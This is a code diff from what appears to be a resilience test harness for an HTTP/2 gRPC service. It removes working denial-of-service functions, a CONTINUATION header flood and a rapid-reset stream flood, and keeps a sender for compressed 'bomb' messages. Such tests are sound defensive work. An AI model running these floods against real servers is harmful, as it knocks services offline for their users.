@@ -1,6 +1,7 @@
 import { once } from 'node:events';
 import { connect as connectHttp2 } from 'node:http2';
 import { connect, type Socket } from 'node:net';
+import { grpcMessage } from './attacks/http2-frames.ts';
 
 /** Attacks on the two public ports (`host:port`). Each ends when the service ends it or all is sent. */
 
@@ -56,53 +57,6 @@ export async function hugeBody(address: string, head: string, bytes: number): Pr
   return taken * size;
 }
 
-/** Frames of HTTP/2 (RFC 9113, section 4.1). */
-function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head[3] = type;
-  head[4] = flags;
-  head.writeUInt32BE(streamId, 5);
-  return Buffer.concat([head, payload]);
-}
-
-/** Endless headers of a call; true: the service closed the connection. */
-export async function continuationFlood(address: string): Promise<boolean> {
-  const socket = openTo(address);
-  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
-  socket.write(frame(4, 0, 0, Buffer.alloc(0)));
-  // A literal without indexing with a name and a value of 100 bytes, repeated.
-  const name = Buffer.alloc(100, 'a');
-  const value = Buffer.alloc(100, 'b');
-  const field = Buffer.concat([Buffer.from([0, 100]), name, Buffer.from([100]), value]);
-  const fields = Buffer.concat(Array.from({ length: 80 }, () => field));
-  socket.write(frame(1, 0, 1, fields));
-  const closed = heard(socket, 'close').then(() => true);
-  await pour(socket, frame(9, 0, 1, fields), 2_000);
-  const ended = await Promise.race([closed, new Promise<boolean>((resolve) => setTimeout(resolve, 5_000, false))]);
-  socket.destroy();
-  return ended;
-}
-
-/** Calls that are cancelled at once. */
-export async function rapidReset(address: string, count: number): Promise<void> {
-  const session = connectHttp2(`http://${address}`);
-  session.on('error', () => {});
-  for (let at = 0; at < count && !session.destroyed; at += 1) {
-    const stream = session.request({
-      ':method': 'POST',
-      ':path': '/svc.v1.HealthService/GetHealth',
-      'content-type': 'application/grpc',
-      te: 'trailers',
-    });
-    stream.on('error', () => {});
-    stream.close(8);
-    if (at % 1_000 === 999) await new Promise(setImmediate);
-  }
-  await new Promise((resolve) => setTimeout(resolve, 200));
-  session.destroy();
-}
-
 /** Sends a message that unpacks to far more than its size over gRPC, and returns the grpc-status. */
 export async function packedMessage(address: string, path: string, packed: Buffer): Promise<string> {
   const session = connectHttp2(`http://${address}`);
@@ -116,10 +70,7 @@ export async function packedMessage(address: string, path: string, packed: Buffe
       te: 'trailers',
     });
     stream.on('error', () => {});
-    const head = Buffer.alloc(5);
-    head[0] = 1;
-    head.writeUInt32BE(packed.length, 1);
-    stream.end(Buffer.concat([head, packed]));
+    stream.end(grpcMessage(packed, 1));
     const [found] = await once(stream, 'response');
     return String(found['grpc-status']);
   } finally {
